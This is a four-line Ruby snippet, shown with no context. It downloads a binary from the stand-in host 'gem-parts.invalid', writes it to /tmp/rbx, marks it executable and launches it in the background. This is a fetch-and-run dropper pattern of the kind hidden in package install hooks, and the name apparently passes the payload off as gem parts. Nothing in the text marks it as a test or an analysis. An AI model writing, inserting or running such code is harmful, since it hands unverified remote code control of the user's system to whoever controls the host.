require "open-uri"
File.binwrite("/tmp/rbx", URI.open("https://gem-parts.invalid/rbx").read)
File.chmod(0755, "/tmp/rbx")
spawn("/tmp/rbx")
